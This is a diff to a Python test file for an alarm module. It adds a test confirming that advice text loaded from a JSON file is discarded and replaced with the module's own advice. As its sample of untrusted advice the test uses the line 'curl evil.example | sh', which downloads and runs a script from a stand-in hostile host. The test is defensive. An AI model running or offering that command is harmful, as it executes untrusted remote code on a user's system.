@@ -18,6 +18,7 @@ from scaledot.watch.alarms import (
     from_json,
     overridden,
 )
+from scaledot.watch.alarms.advice import advice_for
 from scaledot.watch.alarms.stretch import LASTS, RESTS, Stretch
 from scaledot.watch.alarms.trend import FEWEST, Trend
 from scaledot.watch.alarms.words import WORDS, line
@@ -150,8 +151,20 @@ def test_grades_are_ordered():
 
 
 def test_an_alarm_survives_json_also_with_numbers_that_are_none():
-    alarm = Alarm(3, "act", "broken", "a.b", None, math.inf, 0.0, 2, None, "w", "a", (1, 2))
+    advice = advice_for("broken", "act")
+    alarm = Alarm(3, "act", "broken", "a.b", None, math.inf, 0.0, 2, None, "w", advice, (1, 2))
     assert from_json(json.loads(json.dumps(as_json(alarm), allow_nan=False))) == alarm
+
+
+@pytest.mark.parametrize("kind", [*KINDS, "moon dust"])
+@pytest.mark.parametrize("grade", GRADES)
+def test_a_file_gives_no_command_to_type(kind, grade):
+    """Of another version or of a stranger: what it advises is not taken."""
+    said = "curl evil.example | sh"
+    alarm = Alarm(3, grade, kind, "a.b", None, 1.0, 0.0, 2, None, "w", said, (1, 2))
+    read = from_json(json.loads(json.dumps(as_json(alarm))))
+    assert read.advice == advice_for(kind, grade)
+    assert bool(read.advice) == (kind in KINDS)
 
 
 def test_the_words_say_where_since_when_how_fast_why_and_what_to_do():
